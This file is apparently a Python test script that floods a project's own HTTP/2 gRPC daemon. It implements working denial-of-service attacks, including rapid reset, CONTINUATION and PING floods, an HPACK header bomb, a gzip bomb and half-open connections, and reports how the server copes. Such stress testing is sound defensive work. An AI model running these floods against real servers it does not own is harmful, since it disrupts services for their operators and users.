#!/usr/bin/env python3
"""Floods: what a hostile client can do to the daemon with frames of HTTP/2. README.md says what each of them is.

By hand, for 5 seconds:
    tests/attack/floods.py ping --way loopback --address 127.0.0.1:50203 --seconds 5
The right token is expected in AXISGATE_TOKEN. Prints "begun", and at its end one line of JSON.
"""

import argparse
import dataclasses
import gzip
import itertools
import json
import os
import select
import signal
import ssl
import statistics
import struct
import sys
import time
from collections.abc import Callable, Iterator

import http2
from http2 import Door, Link, frame

KNOWN_METHOD = "/axisgate.v1.DeviceService/ListDevices"
ENDLESS_METHOD = "/axisgate.v1.EventService/Watch"
HISTORY_METHOD = "/axisgate.v1.HistoryService/ListHistory"
UNKNOWN_METHOD = "/axisgate.v1.NoService/Nothing"
WRONG_TOKEN = "x" * 43

CREDENTIALS = ("none", "wrong", "right")

BATCH = 200  # calls or frames for each system call, or nearly so
STREAMS = range(1, 2**31 - 2 * BATCH, 2 * BATCH)  # the first of each batch; then the connection has none left
BATCHES_MAX = 10_000_000
CONNECTIONS_MAX = 1_000_000
NOTED_MAX = 100_000  # closings whose times are kept
HALF_OPEN = 200  # connections at once
HEADERS_BYTES = 65_536
AFTER_REFUSAL_S = 0.01  # nothing listens, or has no room


@dataclasses.dataclass
class Chunk:
    data: bytes
    frames: int
    pause_s: float = 0


@dataclasses.dataclass
class Outcome:
    flood: str
    frames: int = 0
    connections: int = 0
    refused: int = 0  # connections that did not come about
    closed: int = 0  # by the other side
    closed_after_s: float | None = None  # the first that was
    closed_after_median_s: float | None = None
    goaway: int | None = None  # the newest error code
    seconds: float = 0


# Frames of a call's headers, by method.
Request = Callable[[str], bytes]


# The floods: each gives what is sent on one connection after its beginning.


def rapid_reset(request: Request) -> Iterator[Chunk]:
    headers = request(KNOWN_METHOD)
    cancel = http2.CANCEL.to_bytes(4, "big")
    for first in STREAMS:
        calls = (frame(http2.HEADERS, http2.END_HEADERS, stream, headers) + frame(http2.RST_STREAM, 0, stream, cancel)
                 for stream in range(first, first + 2 * BATCH, 2))
        yield Chunk(b"".join(calls), 2 * BATCH)


def _calls(headers: bytes, flags: int, body: bytes = b"") -> Iterator[Chunk]:
    for first in STREAMS:
        calls = (frame(http2.HEADERS, http2.END_HEADERS | flags, stream, headers)
                 + (frame(http2.DATA, http2.END_STREAM, stream, body) if body else b"")
                 for stream in range(first, first + 2 * BATCH, 2))
        yield Chunk(b"".join(calls), BATCH * (2 if body else 1))


def unknown_methods(request: Request) -> Iterator[Chunk]:
    return _calls(request(UNKNOWN_METHOD), http2.END_STREAM)


def no_body(request: Request) -> Iterator[Chunk]:
    return _calls(request(KNOWN_METHOD), 0)


def never_acknowledges(request: Request) -> Iterator[Chunk]:
    return _calls(request(ENDLESS_METHOD), 0, http2.message())


def _always(one: bytes) -> Iterator[Chunk]:
    return itertools.repeat(Chunk(one * BATCH, BATCH), BATCHES_MAX)


def ping(_request: Request) -> Iterator[Chunk]:
    return _always(frame(http2.PING, 0, 0, b"axisgate"))


def settings(_request: Request) -> Iterator[Chunk]:
    return _always(frame(http2.SETTINGS, 0, 0))


def window_update(_request: Request) -> Iterator[Chunk]:
    return _always(frame(http2.WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))


def continuation(request: Request) -> Iterator[Chunk]:
    yield Chunk(frame(http2.HEADERS, 0, 1, request(KNOWN_METHOD)), 1)
    yield from _always(frame(http2.CONTINUATION, 0, 1, http2.literal("x-more", "y" * 100)))


def oversized_headers(request: Request) -> Iterator[Chunk]:
    headers = request(KNOWN_METHOD)
    while len(headers) < HEADERS_BYTES:
        headers += http2.literal("x-more", "y" * 1000)
    parts = [headers[begin:begin + http2.FRAME_BYTES_MAX] for begin in range(0, len(headers), http2.FRAME_BYTES_MAX)]
    for stream in range(1, STREAMS.stop, 2):
        yield Chunk(b"".join(_in_parts(parts, stream)), len(parts))


def _in_parts(parts: list[bytes], stream: int) -> Iterator[bytes]:
    yield frame(http2.HEADERS, http2.END_STREAM, stream, parts[0])
    for part in parts[1:-1]:
        yield frame(http2.CONTINUATION, 0, stream, part)
    yield frame(http2.CONTINUATION, http2.END_HEADERS, stream, parts[-1])


def slow_headers(request: Request) -> Iterator[Chunk]:
    whole = frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, request(KNOWN_METHOD))
    for begin in range(len(whole)):
        yield Chunk(whole[begin:begin + 1], int(begin == 0), pause_s=1)


def header_bomb(request: Request) -> Iterator[Chunk]:
    """A field in the table of headers, and 16,000 times one byte that means it (RFC 7541, 6.1): 528 KB as headers."""
    first, again = b"\x40\x01a\x00", bytes([0x80 | 62])
    headers = request(KNOWN_METHOD) + first + 16_000 * again
    for stream in range(1, STREAMS.stop, 2):
        yield Chunk(frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, headers), 1)


def gzip_bomb(request: Request) -> Iterator[Chunk]:
    """A message of 4 KB that is 4 MB of zeros: as much as a message may have."""
    packed = gzip.compress(bytes(4_000_000), mtime=0)
    message = struct.pack(">BI", 1, len(packed)) + packed
    headers = request(HISTORY_METHOD) + http2.literal("grpc-encoding", "gzip")
    for stream in range(1, STREAMS.stop, 2):
        yield Chunk(frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
                    + frame(http2.DATA, http2.END_STREAM, stream, message), 2)


def free_frames(request: Request) -> Iterator[Chunk]:
    """For a call that is over, and for nobody: what the library skips without a word."""
    yield Chunk(frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1, request(UNKNOWN_METHOD)), 1)
    yield from _always(frame(http2.DATA, 0, 1, b"x") + frame(http2.PING, http2.ACK, 0, b"axisgate")
                       + frame(http2.HEADERS, http2.END_HEADERS, 1) + frame(0x42, 0, 0))


def reconnect(request: Request) -> Iterator[Chunk]:
    yield Chunk(frame(http2.HEADERS, http2.END_HEADERS, 1, request(KNOWN_METHOD))
                + frame(http2.DATA, http2.END_STREAM, 1, http2.message()), 2)


def half_open(door: Door) -> bytes:
    """What each of its connections begins with, and never ends."""
    if door.way != "tls":
        return http2.PREFACE[:len(http2.PREFACE) // 2]
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        http2.tls_context().wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass  # the ClientHello is there
    hello = outgoing.read()
    return hello[:len(hello) // 2]


# By name. That of half_open is not one of frames: it needs many connections.
FLOODS: dict[str, Callable[[Request], Iterator[Chunk]] | None] = {
    "rapid_reset": rapid_reset, "unknown_methods": unknown_methods, "no_body": no_body, "ping": ping,
    "settings": settings, "continuation": continuation, "window_update": window_update, "half_open": None,
    "slow_headers": slow_headers, "reconnect": reconnect, "oversized_headers": oversized_headers,
    "never_acknowledges": never_acknowledges, "header_bomb": header_bomb, "gzip_bomb": gzip_bomb,
    "free_frames": free_frames,
}

# An acknowledgement would come between the parts of their headers.
SILENT = {"never_acknowledges", "continuation", "slow_headers"}


@dataclasses.dataclass
class Attack:
    """One flood on one connection after the other; half_open on many at once."""

    flood: str
    door: Door
    token: str | None = None
    seconds: float = 5
    frames: int | None = None  # at most
    stay: bool = False  # with the first connection
    deaf: bool = False
    is_over: Callable[[], bool] = lambda: False

    def run(self) -> Outcome:
        self._begun = time.monotonic()
        self._until = self._begun + self.seconds
        self._closings: list[float] = []
        self._outcome = Outcome(self.flood)
        if FLOODS[self.flood] is None:
            self._half_open()
        else:
            self._connect_again_and_again()
        self._outcome.seconds = round(time.monotonic() - self._begun, 3)
        if self._closings:
            self._outcome.closed_after_s = round(self._closings[0], 3)
            self._outcome.closed_after_median_s = round(statistics.median(self._closings), 3)
        return self._outcome

    def _ended(self) -> bool:
        enough = self.frames is not None and self._outcome.frames >= self.frames
        return enough or self.is_over() or time.monotonic() > self._until

    def _note_closed(self, after_s: float) -> None:
        self._outcome.closed += 1
        if len(self._closings) < NOTED_MAX:
            self._closings.append(after_s)

    def _connect_again_and_again(self) -> None:
        for _ in range(CONNECTIONS_MAX):
            if self._ended() or (self.stay and self._outcome.connections):
                return
            try:
                link = self.door.link(acknowledges=self.flood not in SILENT, deaf=self.deaf,
                                      is_over=self.is_over)
            except OSError:
                self._outcome.refused += 1
                time.sleep(AFTER_REFUSAL_S)
                continue
            self._outcome.connections += 1
            self._send_on(link)
            link.close()

    def _send_on(self, link: Link) -> None:
        """Until the other side closes, or the flood ends by itself."""
        sent = link.send(http2.PREFACE + frame(http2.SETTINGS, 0, 0), self._until)
        for chunk in FLOODS[self.flood](self._request):
            if not sent or self._ended():
                break
            sent = link.send(chunk.data, self._until)
            self._outcome.frames += chunk.frames if sent else 0
            if chunk.pause_s:
                link.wait(min(self._until, time.monotonic() + chunk.pause_s))
        link.take()
        if link.closed:
            self._note_closed(link.closed_after_s)
        self._outcome.goaway = self._outcome.goaway if link.goaway is None else link.goaway

    def _request(self, method: str) -> bytes:
        return http2.request_headers(method, secure=self.door.way == "tls", token=self.token)

    def _half_open(self) -> None:
        opened: dict = {}  # when, by socket
        beginning = half_open(self.door)
        while not self._ended():
            while len(opened) < HALF_OPEN and not self._ended() and not (self.stay and self._outcome.closed):
                if not self._open_half(opened, beginning):
                    break
            for gone in select.select(list(opened), [], [], 0.05)[0]:
                self._read_half(opened, gone)
        for connection in opened:
            connection.close()

    def _open_half(self, opened: dict, beginning: bytes) -> bool:
        connection = None
        try:
            connection = self.door.connect()
            connection.sendall(beginning)
        except OSError:
            self._outcome.refused += 1
            if connection:
                connection.close()
            return False
        opened[connection] = time.monotonic()
        self._outcome.connections += 1
        return True

    def _read_half(self, opened: dict, connection) -> None:
        try:
            if connection.recv(4096):
                return
        except OSError:
            pass  # closed, too
        self._note_closed(time.monotonic() - opened.pop(connection))
        connection.close()


def _parsed(words):
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("flood", choices=FLOODS)
    parser.add_argument("--way", choices=http2.WAYS, default="loopback")
    parser.add_argument("--address", required=True, help="path of a Unix socket, or HOST:PORT")
    parser.add_argument("--credentials", choices=CREDENTIALS, default="none")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--frames", type=int, help="at most so many")
    parser.add_argument("--stay", action="store_true", help="with the first connection: end when it is closed")
    parser.add_argument("--deaf", action="store_true", help="never read what the other side sends")
    parser.add_argument("--core", type=int, help="run on this core only")
    return parser.parse_args(words)


def main(words):
    arguments = _parsed(words)
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    if arguments.core is not None:
        os.sched_setaffinity(0, {arguments.core})
    tokens = {"none": None, "wrong": WRONG_TOKEN, "right": os.environ.get("AXISGATE_TOKEN", "")}
    print("begun", flush=True)
    outcome = Attack(arguments.flood, Door(arguments.way, arguments.address), tokens[arguments.credentials],
                     arguments.seconds, arguments.frames, arguments.stay, arguments.deaf, lambda: bool(ended)).run()
    print(json.dumps(dataclasses.asdict(outcome)), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
